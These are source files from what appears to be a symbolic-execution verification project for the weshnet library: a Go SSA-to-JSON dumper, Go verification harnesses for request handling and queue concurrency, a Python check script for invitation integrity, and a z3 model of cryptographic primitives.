	d.work = append(d.work, fn)
}

func (d *dumper) pos(p token.Pos) string {
	if !p.IsValid() {
		return ""
	}
	pp := d.fset.Position(p)
	return fmt.Sprintf("%s:%d", pp.Filename, pp.Line)
}

func (d *dumper) val(v ssa.Value) any {
	switch x := v.(type) {
	case nil:
		return nil
	case *ssa.Const:
		t := d.typeID(x.Type())
		if x.Value == nil {
			return []any{"c", t, nil}
		}
		switch x.Value.Kind() {
		case constant.Bool:
			return []any{"c", t, constant.BoolVal(x.Value)}
		case constant.String:
			s := constant.StringVal(x.Value)
			return []any{"c", t, "s:" + hex.EncodeToString([]byte(s))}
		case constant.Int:
			return []any{"c", t, "i:" + x.Value.ExactString()}
		case constant.Float:
			f, _ := constant.Float64Val(x.Value)
			return []any{"c", t, fmt.Sprintf("f:%v", f)}
		default:
			return []any{"c", t, "?:" + x.Value.ExactString()}
		}
	case *ssa.Function:
		d.enqueue(x)
		return []any{"f", x.String()}
	case *ssa.Global:
		name := x.String()
		if _, ok := d.globals[name]; !ok {
			pk := ""
			if x.Pkg != nil {
				pk = x.Pkg.Pkg.Path()
			}
			d.globals[name] = &jGlobal{Name: name, Type: d.typeID(x.Type().(*types.Pointer).Elem()), Pkg: pk}
		}
		return []any{"g", name}
	case *ssa.Builtin:
		return []any{"b", x.Name()}
	case *ssa.Parameter:
		for i, p := range x.Parent().Params {
			if p == x {
				return []any{"p", i}
			}
		}
		return []any{"p", -1}
	case *ssa.FreeVar:
		for i, p := range x.Parent().FreeVars {
			if p == x {
				return []any{"v", i}
			}
		}
		return []any{"v", -1}
	default:
		return []any{"r", v.Name()}
	}
}

func (d *dumper) vals(vs []ssa.Value) []any {
	out := make([]any, len(vs))
	for i, v := range vs {
		out[i] = d.val(v)
	}
	return out
}

func (d *dumper) common(c *ssa.CallCommon, ji jInstr) {
	ji["args"] = d.vals(c.Args)
	if c.IsInvoke() {
		ji["invoke"] = c.Method.Name()
		ji["recv"] = d.val(c.Value)
		ji["recvt"] = d.typeID(c.Value.Type())
	} else {
		ji["fn"] = d.val(c.Value)
	}
	ji["sig"] = d.typeID(c.Signature())
}

func (d *dumper) instr(in ssa.Instruction) jInstr {
	ji := jInstr{}
	if v, ok := in.(ssa.Value); ok {
		ji["r"] = v.Name()
		ji["t"] = d.typeID(v.Type())
	}
	if p := in.Pos(); p.IsValid() {
		ji["pos"] = d.pos(p)
	}
	switch x := in.(type) {
	case *ssa.Alloc:
		ji["op"] = "Alloc"
		ji["heap"] = x.Heap
		ji["elem"] = d.typeID(x.Type().(*types.Pointer).Elem())
		ji["comment"] = x.Comment
	case *ssa.BinOp:
		ji["op"] = "BinOp"
		ji["bop"] = x.Op.String()
		ji["x"] = d.val(x.X)
		ji["y"] = d.val(x.Y)
		ji["xt"] = d.typeID(x.X.Type())
		ji["yt"] = d.typeID(x.Y.Type())
	case *ssa.Call:
		ji["op"] = "Call"
		d.common(&x.Call, ji)
	case *ssa.ChangeInterface:
		ji["op"] = "ChangeInterface"
		ji["x"] = d.val(x.X)
	case *ssa.ChangeType:
		ji["op"] = "ChangeType"
		ji["x"] = d.val(x.X)
	case *ssa.Convert:
		ji["op"] = "Convert"
		ji["x"] = d.val(x.X)
		ji["xt"] = d.typeID(x.X.Type())
	case *ssa.MultiConvert:
		ji["op"] = "Convert"
		ji["x"] = d.val(x.X)
		ji["xt"] = d.typeID(x.X.Type())
	case *ssa.DebugRef:
		return nil
	case *ssa.Defer:
		ji["op"] = "Defer"
		d.common(&x.Call, ji)
	case *ssa.Extract:
		ji["op"] = "Extract"
		ji["x"] = d.val(x.Tuple)
		ji["idx"] = x.Index
	case *ssa.Field:
		ji["op"] = "Field"
		ji["x"] = d.val(x.X)
		ji["idx"] = x.Field
	case *ssa.FieldAddr:
		ji["op"] = "FieldAddr"
		ji["x"] = d.val(x.X)
		ji["idx"] = x.Field
	case *ssa.Go:
		ji["op"] = "Go"
		d.common(&x.Call, ji)
	case *ssa.If:
		ji["op"] = "If"
		ji["x"] = d.val(x.Cond)
	case *ssa.Index:
		ji["op"] = "Index"
		ji["x"] = d.val(x.X)
		ji["y"] = d.val(x.Index)
		ji["xt"] = d.typeID(x.X.Type())
	case *ssa.IndexAddr:
		ji["op"] = "IndexAddr"
		ji["x"] = d.val(x.X)
		ji["y"] = d.val(x.Index)
		ji["xt"] = d.typeID(x.X.Type())
	case *ssa.Jump:
		ji["op"] = "Jump"
	case *ssa.Lookup:
		ji["op"] = "Lookup"
		ji["x"] = d.val(x.X)
		ji["y"] = d.val(x.Index)
		ji["commaok"] = x.CommaOk
		ji["xt"] = d.typeID(x.X.Type())
	case *ssa.MakeChan:
		ji["op"] = "MakeChan"
		ji["x"] = d.val(x.Size)
	case *ssa.MakeClosure:
		ji["op"] = "MakeClosure"
		ji["fn"] = d.val(x.Fn)
		ji["bindings"] = d.vals(x.Bindings)
	case *ssa.MakeInterface:
		ji["op"] = "MakeInterface"
		ji["x"] = d.val(x.X)
		ji["xt"] = d.typeID(x.X.Type())
		d.addRuntimeType(x.X.Type())
	case *ssa.MakeMap:
		ji["op"] = "MakeMap"
	case *ssa.MakeSlice:
		ji["op"] = "MakeSlice"
		ji["len"] = d.val(x.Len)
		ji["cap"] = d.val(x.Cap)
	case *ssa.MapUpdate:
		ji["op"] = "MapUpdate"
		ji["x"] = d.val(x.Map)
		ji["y"] = d.val(x.Key)
		ji["z"] = d.val(x.Value)
	case *ssa.Next:
		ji["op"] = "Next"
		ji["x"] = d.val(x.Iter)
		ji["isstring"] = x.IsString
	case *ssa.Panic:
		ji["op"] = "Panic"
		ji["x"] = d.val(x.X)
	case *ssa.Phi:
		ji["op"] = "Phi"
		ji["edges"] = d.vals(x.Edges)
	case *ssa.Range:
		ji["op"] = "Range"
		ji["x"] = d.val(x.X)
		ji["xt"] = d.typeID(x.X.Type())
	case *ssa.Return:
		ji["op"] = "Return"
		ji["results"] = d.vals(x.Results)
	case *ssa.RunDefers:
		ji["op"] = "RunDefers"
	case *ssa.Select:
		ji["op"] = "Select"
		ji["blocking"] = x.Blocking
		var sts []any
		for _, s := range x.States {
			sts = append(sts, map[string]any{"dir": int(s.Dir), "chan": d.val(s.Chan), "send": d.val(s.Send)})
		}
		ji["states"] = sts
	case *ssa.Send:
		ji["op"] = "Send"
		ji["x"] = d.val(x.Chan)
		ji["y"] = d.val(x.X)
	case *ssa.Slice:
		ji["op"] = "Slice"
		ji["x"] = d.val(x.X)
		ji["lo"] = d.val(x.Low)
		ji["hi"] = d.val(x.High)
		ji["max"] = d.val(x.Max)
		ji["xt"] = d.typeID(x.X.Type())
	case *ssa.SliceToArrayPointer:
		ji["op"] = "SliceToArrayPointer"
		ji["x"] = d.val(x.X)
	case *ssa.Store:
		ji["op"] = "Store"
		ji["x"] = d.val(x.Addr)
		ji["y"] = d.val(x.Val)
	case *ssa.TypeAssert:
		ji["op"] = "TypeAssert"
		ji["x"] = d.val(x.X)
		ji["at"] = d.typeID(x.AssertedType)
		ji["commaok"] = x.CommaOk
		if !types.IsInterface(x.AssertedType) {
			d.typeID(x.AssertedType)
		}
	case *ssa.UnOp:
		ji["op"] = "UnOp"
		ji["uop"] = x.Op.String()
		ji["x"] = d.val(x.X)
		ji["commaok"] = x.CommaOk
		ji["xt"] = d.typeID(x.X.Type())
	default:
		ji["op"] = "Unknown"
		ji["text"] = in.String()
	}
	return ji
}

func (d *dumper) srcHash(fn *ssa.Function) string {
	syn := fn.Syntax()
	if syn == nil {
		return ""
	}
	s := d.fset.Position(syn.Pos())
	e := d.fset.Position(syn.End())
	if s.Filename == "" {
		return ""
	}
	b, ok := d.srcs[s.Filename]
	if !ok {
		b, _ = os.ReadFile(s.Filename)
		d.srcs[s.Filename] = b
	}
	if s.Offset < 0 || e.Offset > len(b) || s.Offset > e.Offset {
		return ""
	}
	h := sha256.Sum256(b[s.Offset:e.Offset])
	return hex.EncodeToString(h[:8])
}

func (d *dumper) dumpFunc(fn *ssa.Function) {
	name := fn.String()
	if len(fn.Blocks) == 0 {
		d.nobody[name] = true
		return
	}
	jf := &jFunc{Name: name, Pos: d.pos(fn.Pos()), Synth: fn.Synthetic, SrcHash: d.srcHash(fn)}
	if fn.Pkg != nil {
		jf.Pkg = fn.Pkg.Pkg.Path()
	} else if o := fn.Origin(); o != nil && o.Pkg != nil {
		jf.Pkg = o.Pkg.Pkg.Path()
	}
	jf.Variadic = fn.Signature.Variadic()
	for _, p := range fn.Params {
		jf.Params = append(jf.Params, jParam{p.Name(), d.typeID(p.Type())})
	}
	for _, p := range fn.FreeVars {
		jf.FreeVars = append(jf.FreeVars, jParam{p.Name(), d.typeID(p.Type())})
	}
	for i := 0; i < fn.Signature.Results().Len(); i++ {
		jf.Results = append(jf.Results, d.typeID(fn.Signature.Results().At(i).Type()))
	}
	jf.Recover = -1
	if fn.Recover != nil {
		jf.Recover = fn.Recover.Index
	}
	for _, b := range fn.Blocks {
		jb := jBlock{Index: b.Index}
		for _, s := range b.Succs {
			jb.Succs = append(jb.Succs, s.Index)
		}
		for _, p := range b.Preds {
			jb.Preds = append(jb.Preds, p.Index)
		}
		for _, in := range b.Instrs {
			if ji := d.instr(in); ji != nil {
				jb.Instrs = append(jb.Instrs, ji)
			}
		}
		jf.Blocks = append(jf.Blocks, jb)
	}
	for _, af := range fn.AnonFuncs {
		d.enqueue(af)
	}
	d.funcs[name] = jf
	d.order = append(d.order, name)
}

func main() {
	dir := flag.String("dir", "/repo", "module directory")
	overlayF := flag.String("overlay", "", "JSON file {virtual path: real path}")
	entries := flag.String("entry", "", "comma separated entry function names (pkgpath.Func); 'pkgpath.*' = all package-level funcs prefixed Verif")
	out := flag.String("out", "", "output file")
	bodyPkgs := flag.String("bodies", "", "comma separated extra package paths whose functions are dumped with bodies even if only reached")
	allSyntax := flag.Bool("allsyntax", false, "load syntax for every dependency (slow)")
	flag.Parse()

	overlay := map[string][]byte{}
	if *overlayF != "" {
		b, err := os.ReadFile(*overlayF)
		if err != nil {
			fatal(err)
		}
		var m map[string]string
		if err := json.Unmarshal(b, &m); err != nil {
			fatal(err)
		}
		for v, r := range m {
			c, err := os.ReadFile(r)
			if err != nil {
				fatal(err)
			}
			overlay[v] = c
		}
	}
	mode := packages.NeedName | packages.NeedFiles | packages.NeedCompiledGoFiles | packages.NeedImports |
		packages.NeedTypes | packages.NeedTypesSizes | packages.NeedSyntax | packages.NeedTypesInfo | packages.NeedModule
	if *allSyntax {
		mode |= packages.NeedDeps
	}
	cfg := &packages.Config{Mode: mode, Dir: *dir, Overlay: overlay, Tests: false,
		Env: append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off")}
	pkgs, err := packages.Load(cfg, flag.Args()...)
	if err != nil {
		fatal(err)
	}
	nerr := 0
	for _, p := range pkgs {
		for _, e := range p.Errors {
			fmt.Fprintln(os.Stderr, "LOADERR", p.PkgPath, e)
			nerr++
		}
	}
	if nerr > 0 {
		os.Exit(3)
	}
	prog, spkgs := ssautil.Packages(pkgs, ssa.InstantiateGenerics)
	prog.Build()
	d := &dumper{prog: prog, fset: prog.Fset, typeIdx: map[string]int{}, typeMap: typeMapT{map[types.Type]int{}},
		funcs: map[string]*jFunc{}, seen: map[*ssa.Function]bool{}, globals: map[string]*jGlobal{},
		rtTypes: map[int]bool{}, sizes: types.SizesFor("gc", "amd64"), srcs: map[string][]byte{},
		nobody: map[string]bool{}, bodyPkg: map[string]bool{}}
	for _, b := range strings.Split(*bodyPkgs, ",") {
		if b != "" {
			d.bodyPkg[b] = true
		}
	}
	byPath := map[string]*ssa.Package{}
	for _, sp := range spkgs {
		if sp != nil {
			byPath[sp.Pkg.Path()] = sp
		}
	}
	var entryNames []string
	for _, e := range strings.Split(*entries, ",") {
		e = strings.TrimSpace(e)
		if e == "" {
			continue
		}
		i := strings.LastIndex(e, ".")
		pp, fnName := e[:i], e[i+1:]
		sp := byPath[pp]
		if sp == nil {
			fatal(fmt.Errorf("entry package %q not loaded", pp))
		}
		if fnName == "*" {
			var names []string
			for n, m := range sp.Members {
				if f, ok := m.(*ssa.Function); ok && strings.HasPrefix(n, "Verif") {
					names = append(names, n)
					d.enqueue(f)
					entryNames = append(entryNames, f.String())
				}
			}
			sort.Strings(names)
			// package initialiser too
			if f := sp.Func("init"); f != nil {
				d.enqueue(f)
			}
			continue
		}
		f := sp.Func(fnName)
		if f == nil {
			fatal(fmt.Errorf("entry %q not found", e))
		}
		d.enqueue(f)
		entryNames = append(entryNames, f.String())
		if f := sp.Func("init"); f != nil {
			d.enqueue(f)
		}
	}
	for len(d.work) > 0 {
		fn := d.work[len(d.work)-1]
		d.work = d.work[:len(d.work)-1]
		d.dumpFunc(fn)
	}
	// named types: record method tables for pointer/value receivers of every named type seen
	// (needed when contracts fabricate interface values); only for types already runtime-registered.
	sort.Strings(entryNames)
	var globals []*jGlobal
	for _, g := range d.globals {
		globals = append(globals, g)
	}
	sort.Slice(globals, func(i, j int) bool { return globals[i].Name < globals[j].Name })
	var nobody []string
	for n := range d.nobody {
		nobody = append(nobody, n)
	}
	sort.Strings(nobody)
	funcs := make([]*jFunc, 0, len(d.order))
	for _, n := range d.order {
		funcs = append(funcs, d.funcs[n])
	}
	doc := map[string]any{"entries": entryNames, "types": d.types, "funcs": funcs, "globals": globals, "nobody": nobody}
	var w *os.File = os.Stdout
	if *out != "" {
		w, err = os.Create(*out)
		if err != nil {
			fatal(err)
		}
		defer w.Close()
	}
	enc := json.NewEncoder(w)
	if err := enc.Encode(doc); err != nil {
		fatal(err)
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "ssadump:", err)
	os.Exit(2)
}
