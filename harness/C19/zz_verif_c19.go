package weshnet

import (
	"go.uber.org/zap"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
	"berty.tech/weshnet/v2/pkg/secretstore"
)

// verif_fillAny fills every field reachable from the pointed-to request with free values
// (byte fields: nil or free bytes of any length; strings free; numbers free; sub-messages nil or filled).
func verif_fillAny(p any) { panic("intrinsic") }

func verifGroupContext(ss secretstore.SecretStore, g *protocoltypes.Group) *GroupContext {
	m := verifMetadataStore(ss, g)
	md, err := ss.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	return &GroupContext{group: g, metadataStore: m, secretStore: ss, ownMemberDevice: md, logger: zap.NewNop()}
}

// verifService builds a service in one of the states a request can meet:
// 0: account group deactivated, nothing open   1: account group active   2: account group + one multi-member group open
func verifService(state int) (*service, *protocoltypes.Group) {
	ss := verifSecretStore("svc")
	s := &service{logger: zap.NewNop(), secretStore: ss, openedGroups: map[string]*GroupContext{}}
	var mm *protocoltypes.Group
	if state >= 1 {
		g, _, err := ss.GetGroupForAccount()
		verif_assume(err == nil)
		s.accountGroupCtx = verifGroupContext(ss, g)
		s.openedGroups[string(g.PublicKey)] = s.accountGroupCtx
	}
	if state >= 2 {
		g, _, err := protocoltypes.NewGroupMultiMember()
		verif_assume(err == nil)
		s.openedGroups[string(g.PublicKey)] = verifGroupContext(ss, g)
		mm = g
	}
	return s, mm
}

// each harness: arbitrary request in the given service state; any Go panic on any path is the violation.
// Where the account group is required and absent the handler must answer with an error.

func VerifC19ContactRequestReference(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.ContactRequestReference_Request{}
	verif_fillAny(req)
	_, err := s.ContactRequestReference(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactRequestDisable(st int) {
	s, _ := verifService(st)
	_, err := s.ContactRequestDisable(verif_background(), &protocoltypes.ContactRequestDisable_Request{})
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactRequestEnable(st int) {
	s, _ := verifService(st)
	_, err := s.ContactRequestEnable(verif_background(), &protocoltypes.ContactRequestEnable_Request{})
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactRequestResetReference(st int) {
	s, _ := verifService(st)
	_, err := s.ContactRequestResetReference(verif_background(), &protocoltypes.ContactRequestResetReference_Request{})
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactRequestSend(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.ContactRequestSend_Request{}
	verif_fillAny(req)
	_, err := s.ContactRequestSend(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactRequestAccept(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.ContactRequestAccept_Request{}
	verif_fillAny(req)
	_, err := s.ContactRequestAccept(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactRequestDiscard(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.ContactRequestDiscard_Request{}
	verif_fillAny(req)
	_, err := s.ContactRequestDiscard(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ShareContact(st int) {
	s, _ := verifService(st)
	_, err := s.ShareContact(verif_background(), &protocoltypes.ShareContact_Request{})
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19DecodeContact(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.DecodeContact_Request{}
	verif_fillAny(req)
	_, _ = s.DecodeContact(verif_background(), req)
}

func VerifC19ContactBlock(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.ContactBlock_Request{}
	verif_fillAny(req)
	_, err := s.ContactBlock(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactUnblock(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.ContactUnblock_Request{}
	verif_fillAny(req)
	_, err := s.ContactUnblock(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19ContactAliasKeySend(st int) {
	s, mm := verifService(st)
	req := &protocoltypes.ContactAliasKeySend_Request{}
	verif_fillAny(req)
	if mm != nil && verif_anyBool("target-open-group") {
		req.GroupPk = mm.PublicKey
	}
	_, _ = s.ContactAliasKeySend(verif_background(), req)
}

func VerifC19MultiMemberGroupJoin(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.MultiMemberGroupJoin_Request{}
	verif_fillAny(req)
	_, err := s.MultiMemberGroupJoin(verif_background(), req)
	if st == 0 || req.Group == nil {
		verif_assert(err != nil, "C19: inapplicable or malformed request answered with an error")
	}
}

func VerifC19MultiMemberGroupLeave(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.MultiMemberGroupLeave_Request{}
	verif_fillAny(req)
	_, err := s.MultiMemberGroupLeave(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19AliasResolverDisclose(st int) {
	s, mm := verifService(st)
	req := &protocoltypes.MultiMemberGroupAliasResolverDisclose_Request{}
	verif_fillAny(req)
	if mm != nil && verif_anyBool("target-open-group") {
		req.GroupPk = mm.PublicKey
	}
	_, _ = s.MultiMemberGroupAliasResolverDisclose(verif_background(), req)
}

func VerifC19InvitationCreate(st int) {
	s, mm := verifService(st)
	req := &protocoltypes.MultiMemberGroupInvitationCreate_Request{}
	verif_fillAny(req)
	if mm != nil && verif_anyBool("target-open-group") {
		req.GroupPk = mm.PublicKey
	}
	_, _ = s.MultiMemberGroupInvitationCreate(verif_background(), req)
}

func VerifC19AppMetadataSend(st int) {
	s, mm := verifService(st)
	req := &protocoltypes.AppMetadataSend_Request{}
	verif_fillAny(req)
	if mm != nil && verif_anyBool("target-open-group") {
		req.GroupPk = mm.PublicKey
	}
	_, _ = s.AppMetadataSend(verif_background(), req)
}

func VerifC19AppMessageSend(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.AppMessageSend_Request{}
	verif_fillAny(req)
	_, _ = s.AppMessageSend(verif_background(), req)
}

func VerifC19OutOfStoreReceive(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.OutOfStoreReceive_Request{}
	verif_fillAny(req)
	_, _ = s.OutOfStoreReceive(verif_background(), req)
}

func VerifC19OutOfStoreSeal(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.OutOfStoreSeal_Request{}
	verif_fillAny(req)
	_, _ = s.OutOfStoreSeal(verif_background(), req)
}

func VerifC19GroupInfo(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.GroupInfo_Request{}
	verif_fillAny(req)
	_, _ = s.GroupInfo(verif_background(), req)
}

func VerifC19CredentialInitFlow(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.CredentialVerificationServiceInitFlow_Request{}
	verif_fillAny(req)
	_, err := s.CredentialVerificationServiceInitFlow(verif_background(), req)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

func VerifC19CredentialCompleteFlow(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.CredentialVerificationServiceCompleteFlow_Request{}
	verif_fillAny(req)
	_, _ = s.CredentialVerificationServiceCompleteFlow(verif_background(), req)
}

func VerifC19VerifiedCredentialsList(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.VerifiedCredentialsList_Request{}
	verif_fillAny(req)
	err := s.VerifiedCredentialsList(req, nil)
	if st == 0 {
		verif_assert(err != nil, "C19: inapplicable request answered with an error")
	}
}

// VerifC19ActivateGroup: the request names (which) 0 anything / 1 a contact group the secret store knows / 2 a
// multi-member group it knows / 3 the account group. Opening the OrbitDB stores themselves is outside (contract:
// OpenGroup / openAccountGroup answer with an error); everything before it -- key parsing, group lookup and reindexing,
// the per-type preparation that needs the account group -- is executed.
func VerifC19ActivateGroup(st, which int) {
	s, mm := verifService(st)
	ctx := verif_background()
	req := &protocoltypes.ActivateGroup_Request{}
	verif_fillAny(req)
	switch which {
	case 1:
		_, opk := verifFreshKey()
		cg, err := s.secretStore.GetGroupForContact(opk)
		verif_assume(err == nil)
		verif_assume(s.secretStore.PutGroup(ctx, cg) == nil)
		req.GroupPk = cg.PublicKey
	case 2:
		g := mm
		if g == nil {
			var err error
			g, _, err = protocoltypes.NewGroupMultiMember()
			verif_assume(err == nil)
		}
		verif_assume(s.secretStore.PutGroup(ctx, g) == nil)
		req.GroupPk = g.PublicKey
	case 3:
		g, _, err := s.secretStore.GetGroupForAccount()
		verif_assume(err == nil)
		req.GroupPk = g.PublicKey
	}
	_, err := s.ActivateGroup(ctx, req)
	if st == 0 && which == 1 {
		verif_assert(err != nil, "C19: a contact group cannot be activated while the account group is deactivated: answered with an error")
	}
	verif_reach("C19.activate.returned")
}

func VerifC19DeactivateGroup(st int) {
	s, _ := verifService(st)
	req := &protocoltypes.DeactivateGroup_Request{}
	verif_fillAny(req)
	_, _ = s.DeactivateGroup(verif_background(), req)
}

func VerifC19Witness() {
	s, _ := verifService(1)
	req := &protocoltypes.ContactRequestSend_Request{}
	verif_fillAny(req)
	_, err := s.ContactRequestSend(verif_background(), req)
	if err == nil {
		verif_assert(false, "C19.witness: reachable")
	}
}
