#!/usr/bin/env python3
"""C12: invitations are self-authenticating; replication descriptors cannot read."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
import c03


def main():
    t = tier()
    chk = c03.root_check('C12', ['C12/zz_verif_c12.go'])
    P = MOD + '.'
    chk.load([P + n for n in ('VerifC12Join', 'VerifC12Tamper', 'VerifC12Descriptor', 'VerifC12Witness')])
    cfg = {'timeout_ms': 60000, 'unwind': 40}
    jobs = [Job(P + 'VerifC12Join', (), cfg=cfg)]
    for f in range(5):
        jobs.append(Job(P + 'VerifC12Tamper', (f,), cfg=cfg))
    jobs.append(Job(P + 'VerifC12Descriptor', (0,), cfg=cfg))
    jobs.append(Job(P + 'VerifC12Descriptor', (1,), cfg=cfg, max_paths=100000))
    jobs.append(Job(P + 'VerifC12Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of Group.IsValid / MetadataStore.GroupJoin / checkIfInGroup / handleGroupJoined with the invitation a FREE '
                       'Group value (all seven fields free) for a group whose key is honest (EUF-CMA): an accepted invitation is multi-member typed and '
                       'its secret is signed by the group key, a refused one appends nothing; every single-field change of a valid invitation is '
                       'refused. FilterGroupForReplication / GetLinkKeyArray / ComputeLinkKey / defaultACForGroup / openGroupEnvelope / '
                       'OpenEnvelopeHeaders for the descriptor: no secret, opens no metadata event or message header, same log addresses. '
                       'The identity-in-group clause (member/device keys, never the account identity) is decided in the C11 check (assertions C12.identity).',
           bounds={'invitation': 'all fields free byte strings / free 32-bit type', 'outside': 'the primitives; JSON/CID of the access map (injective contract); message payloads need the chain key, which the descriptor does not have by construction'},
           assumptions=['EUF-CMA for the group key', 'the group key signs exactly the secret and the link key (NewGroupMultiMember); an invitation whose Secret is the link key is excluded from the single-field tamper harness (see DESIGN C12)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
