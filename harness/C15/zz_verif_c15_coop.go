package queue

import (
	"context"
)

func verif_quiesce()                                                               { panic("intrinsic") }
func verif_cancelCtx(parent context.Context) (context.Context, context.CancelFunc) { panic("intrinsic") }
func verif_parkedCount() int                                                       { panic("intrinsic") }

// VerifC15Coop: the same contract as VerifC15Concurrent, decided by the symbolic scheduler inside the interpreter
// (DESIGN 4b) with the real container/list: producers add, one consumer takes `total` items, optionally a canceller.
// At quiescence every goroutine has finished (a consumer parked with a non-empty queue, or with items still to come
// and nobody left to add them, is a lost wake-up), and the consumer saw every producer's items in order, exactly once.
func VerifC15Coop(producers, per, withCancel int) {
	q := NewSimpleQueue[int]("t", &noopTracer[int]{})
	ctx, cancel := verif_cancelCtx(verif_ctx(false))
	total := producers * per
	got := 0
	cancelled := false
	for p := 0; p < producers; p++ {
		base := p * 100
		verif_go("producer", func() {
			for i := 1; i <= per; i++ {
				q.Add(base + i)
			}
		})
	}
	verif_go("consumer", func() {
		var last [2]int
		for n := 0; n < total; n++ {
			it, ok := q.WaitForItem(ctx)
			if !ok {
				verif_assert(withCancel == 1, "C15.coop: a wait returns 'no item' only after cancellation")
				cancelled = true
				return
			}
			pr, seq := 0, it
			if it > 100 {
				pr, seq = 1, it-100
			}
			verif_assert(seq == last[pr]+1, "C15.coop: items of a producer arrive in insertion order, each exactly once")
			last[pr] = seq
			got++
		}
	})
	if withCancel == 1 {
		verif_go("canceller", func() { cancel() })
	}
	verif_quiesce()
	verif_assert(verif_parkedCount() == 0, "C15.coop: no goroutine stays blocked (a consumer asleep while items are queued is a lost wake-up)")
	verif_assert(got == total || cancelled, "C15.coop: every item was handed out")
	verif_reach("C15.coop.ok")
}
