"""Cryptography, protobuf, datastore, keystore, encoders as a free term algebra (DESIGN 2.3, Appendix B/C)."""
import z3
from ..values import *
from ..interp import simp_bool, zand, zor, znot, tobv, is_intmode
from .. import terms as T
from .base import mk_error, gostr, bytes_eq

PUBKEY_T = 'github.com/libp2p/go-libp2p/core/crypto.PubKey'
ED = 1  # crypto_pb.KeyType_Ed25519


# ----------------------------------------------------------------------------- helpers
def targs(t, n):
    """accessor terms of the first n arguments of an app term"""
    out = []
    l = T.Term.app_args(t)
    for _ in range(n):
        out.append(T.TList.hd(l))
        l = T.TList.tl(l)
    return out, l


def is_form(t, name, n):
    """formula: t = app(name, a1..an) for some a_i; returns (formula, [a_i as accessor terms])"""
    args, rest = targs(t, n)
    conds = [T.Term.is_app(t), T.Term.app_f(t) == T.fid(name)]
    l = T.Term.app_args(t)
    for _ in range(n):
        conds.append(T.TList.is_tcons(l))
        l = T.TList.tl(l)
    conds.append(T.TList.is_tnil(l))
    return z3.And(*conds), args


def mk(I, name, *args, blen=None):
    t = T.app(name, *args)
    if blen is not None:
        I.add(T.blen(t) == blen)
    else:
        I.add(T.blen(t) >= 0)
    return t


def atom(I, base, n):
    """fresh random bytes of length n: distinct from every other term"""
    g = I.path.ghost
    k = g.get('atoms', 0) + 1
    g['atoms'] = k
    t = T.Term.atom(z3.IntVal(k))
    I.add(T.blen(t) == n)
    g.setdefault('atom_names', {})[k] = base
    return t


def arr_ptr_term(I, p):
    """term of the bytes of a *[N]byte"""
    if p is None:
        raise GoPanic('nil-deref', 'nil array pointer passed to a crypto primitive', '')
    return I.pack(list(p.load()))


def write_bytes(I, dst_list, off, term, n):
    for i in range(n):
        dst_list[off + i] = I.byte_at(term, i)


def new_array(I, term, n):
    a = AV([0] * n)
    write_bytes(I, a, 0, term, n)
    return a


def u64term(v):
    if isinstance(v, bool):
        v = int(v)
    if isinstance(v, int):
        return T.Term.bits(z3.IntVal(8), z3.BitVecVal((v & ((1 << 64) - 1)) << (T.BW - 64), T.BW))
    if is_intmode(v):
        return T.Term.num(v)
    w = v.size()
    if w < 64:
        v = z3.ZeroExt(64 - w, v)
    return T.Term.bits(z3.IntVal(8), z3.simplify(z3.Concat(v, z3.BitVecVal(0, T.BW - 64))))


def u64_of_term(t):
    """inverse of u64term on the accessor level (BV64)"""
    return z3.Extract(T.BW - 1, T.BW - 64, T.Term.bits_val(t))


def sentinel(I, name):
    return I.global_ptr(name).load()


# ----------------------------------------------------------------------------- keys
def mk_priv(I, seed, ktype=ED):
    return Iface(-40, Native('privkey', s=seed, t=seed, ktype=ktype, as_iface=True))


def mk_pub(I, raw, ktype=ED):
    return Iface(-41, Native('pubkey', t=raw, ktype=ktype, as_iface=True))


def pk_of_seed(I, seed):
    return mk(I, 'pk', seed, blen=32)


def honest(I):
    return I.path.ghost.setdefault('honest_sign', {})  # key: seed term sexpr -> (seed, [messages])


def secret_keys(I):
    return I.path.ghost.setdefault('secret_sym', {})  # key sexpr -> (key term, [box terms])


